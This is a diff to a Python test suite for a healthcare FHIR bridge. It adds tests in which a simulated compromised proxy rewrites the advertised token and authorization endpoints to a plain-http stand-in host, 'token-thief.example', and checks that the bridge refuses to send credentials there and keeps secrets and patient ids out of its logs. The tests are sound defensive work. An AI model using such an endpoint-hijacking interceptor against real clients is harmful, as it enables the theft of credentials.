@@ -4,6 +4,7 @@ authenticated run."""
 
 from __future__ import annotations
 
+import io
 import json
 import logging
 import threading
@@ -24,10 +25,12 @@ from connection_support import (
     store_of,
 )
 
+from bridge.auth.errors import UnsafeEndpointError
 from bridge.check import render, run_check
 from bridge.config.settings import BridgeSettings
 from bridge.connection import Connection
 from bridge.fhir.errors import CrossOriginLinkError
+from bridge.logs import log_handler, pseudonym
 
 
 class Attacker:
@@ -40,6 +43,12 @@ class Attacker:
             def do_GET(self) -> None:
                 seen.append(dict(self.headers))
                 self.send_response(200)
+                self.end_headers()
+
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
+                seen.append({**self.headers, "body": body.decode("utf-8", "replace")})
+                self.send_response(400)
                 self.end_headers()
 
             def log_message(self, *a: Any) -> None:
@@ -82,6 +91,89 @@ class ForeignNextLinks(httpx.AsyncBaseTransport):
         await self._inner.aclose()
 
 
+THIEF = "token-thief.example"
+
+
+class HijackedDiscovery(httpx.AsyncBaseTransport):
+    """Between the bridge and the real simulator: the smart-configuration names a token or authorize
+    endpoint on another host over plain http (what a compromised proxy or a wrong server could answer).
+    Requests to that host reach the attacker's listener on loopback."""
+
+    def __init__(self, attacker_port: int, key: str) -> None:
+        self._inner = httpx.AsyncHTTPTransport()
+        self._port = attacker_port
+        self._key = key
+
+    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
+        if request.url.host == THIEF:
+            request.url = request.url.copy_with(host="127.0.0.1")
+            return await self._inner.handle_async_request(request)
+        response = await self._inner.handle_async_request(request)
+        if not request.url.path.endswith("/.well-known/smart-configuration"):
+            return response
+        doc = json.loads(await response.aread())
+        doc[self._key] = f"http://{THIEF}:{self._port}{httpx.URL(doc[self._key]).path}"
+        return httpx.Response(200, json=doc)
+
+    async def aclose(self) -> None:
+        await self._inner.aclose()
+
+
+@pytest.mark.parametrize("key", ["token_endpoint", "authorization_endpoint"])
+async def test_a_discovered_plain_http_endpoint_is_refused_before_any_credential_goes_there(
+    epic_sim: Any, bridge_side: BridgeSide, key: str
+) -> None:
+    cfg = backend_connection(epic_sim, bridge_side, f"bridge-discovery-{key[:5]}")
+    attacker = Attacker()
+    port = attacker.server.server_address[1]
+    try:
+        with pytest.raises(UnsafeEndpointError) as refused:
+            async with await Connection.open(cfg, transport=HijackedDiscovery(port, key)) as conn:
+                await conn.tokens.get()  # the client assertion would go to the token endpoint
+    finally:
+        attacker.stop()
+    assert attacker.seen == []
+    message = str(refused.value)
+    assert f"http://{THIEF}:{port}" in message and "must use https" in message
+    assert "auth.token_url" in message if key == "token_endpoint" else "auth.authorize_url" in message
+
+
+async def test_with_a_configured_token_url_discovery_is_not_used(
+    epic_sim: Any, bridge_side: BridgeSide
+) -> None:
+    """The fix the error names: with auth.token_url set, an unsafe advertised endpoint is never read."""
+    cfg = backend_connection(epic_sim, bridge_side, "bridge-configured")
+    raw = json.loads((bridge_side.folder / f"{cfg.name}.json").read_text())
+    raw["auth"]["token_url"] = epic_sim.token_url
+    cfg = bridge_side.write_config(cfg.name, {k: v for k, v in raw.items() if k != "name"})
+    attacker = Attacker()
+    try:
+        transport = HijackedDiscovery(attacker.server.server_address[1], "token_endpoint")
+        async with await Connection.open(cfg, transport=transport) as conn:
+            assert (await conn.tokens.get()).access_token.get_secret_value()
+    finally:
+        attacker.stop()
+    assert attacker.seen == []
+
+
+async def test_check_names_a_discovered_plain_http_token_endpoint_and_the_fix(
+    epic_sim: Any, bridge_side: BridgeSide
+) -> None:
+    cfg = backend_connection(epic_sim, bridge_side, "bridge-check-discovery")
+    attacker = Attacker()
+    try:
+        transport = HijackedDiscovery(attacker.server.server_address[1], "token_endpoint")
+        report = await run_check(cfg, store=None, transport=transport)
+    finally:
+        attacker.stop()
+    assert attacker.seen == []
+    [row] = [r for r in report.steps if r.subject == "smart-configuration"]
+    assert row.status == "failed" and "must use https" in row.detail and THIEF in row.detail
+    assert row.fix is not None and "auth.token_url" in row.fix and "fhir_base_url" in row.fix
+    assert not any(r.subject == "token" and r.status == "ok" for r in report.steps)
+    assert report.resources and all(r.status == "skipped" for r in report.resources)
+
+
 @pytest.mark.parametrize("profile", ["epic", "generic"])
 async def test_cross_origin_next_link_refused(
     epic_sim_factory: Any, bridge_side: BridgeSide, profile: str
@@ -113,14 +205,20 @@ async def test_nothing_secret_in_logs(
     caplog: pytest.LogCaptureFixture,
     capfd: pytest.CaptureFixture[str],
     tmp_path: Path,
+    request: pytest.FixtureRequest,
 ) -> None:
     """Everything logged at DEBUG by every logger (bridge, httpx, httpcore, asyncio, the in-process
     simulator) and everything printed, during authenticated runs of both grants, refreshes, 401s, retries
-    and `check`."""
+    and `check`. The lines the bridge's own handler writes carry no patient id either (see also
+    test_logs_patient_data.py)."""
     from rich.console import Console
 
     sim = epic_sim
     caplog.set_level(logging.DEBUG)  # root: every logger
+    bridge_lines = io.StringIO()
+    handler = log_handler("json", bridge_lines)
+    logging.getLogger().addHandler(handler)
+    request.addfinalizer(lambda: logging.getLogger().removeHandler(handler))
     for name in ("httpx", "httpcore", "bridge", "epic_sim", "asyncio"):
         logging.getLogger(name).setLevel(logging.DEBUG)
     secrets: dict[str, str] = {"client secret": SECRET}
@@ -159,3 +257,8 @@ async def test_nothing_secret_in_logs(
     for fragment in pem_fragments(key_pem):
         assert fragment not in text, "private key material leaked into the logs"
     assert "client_assertion=" not in text and "eyJ" not in text  # no signed assertion or JWT-shaped token
+    written = bridge_lines.getvalue()
+    assert f"Patient/{pseudonym(patient_id)}" in written  # the reads were logged, the id pseudonymised
+    assert patient_id not in written
+    for what, value in secrets.items():
+        assert value not in written, f"{what} in the bridge's log lines"
